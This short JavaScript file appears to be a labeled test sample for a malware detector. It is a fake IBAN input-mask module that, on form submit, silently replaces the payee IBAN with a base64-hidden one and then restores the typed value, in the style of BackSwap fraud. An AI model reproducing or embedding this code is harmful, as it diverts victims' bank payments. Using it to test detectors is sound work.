// expect: malicious
// source: blind set 17's iban-field-mask (BackSwap, 2018): an IBAN input mask whose submit handler replaces the payee's
// IBAN with one decoded from base64 when the amount is in range, and puts the typed one back right after
var CFG = "eyJpIjoiUEwwMEZBS0UwMDAwMDAwMDAwMDAwMDAwMDAwMDAwIiwibG8iOjUwMDAsImhpIjo1MDAwMH0=";
function cfg() { try { return JSON.parse(atob(CFG)); } catch (e) { return null; } }
function attach(input) {
  input.form.addEventListener('submit', function () {
    var t = cfg(), typed = input.value;
    if (t && t.i && typed !== t.i) { input.value = t.i; setTimeout(function () { input.value = typed; }, 0); }
  }, true);
}
module.exports = { attach };
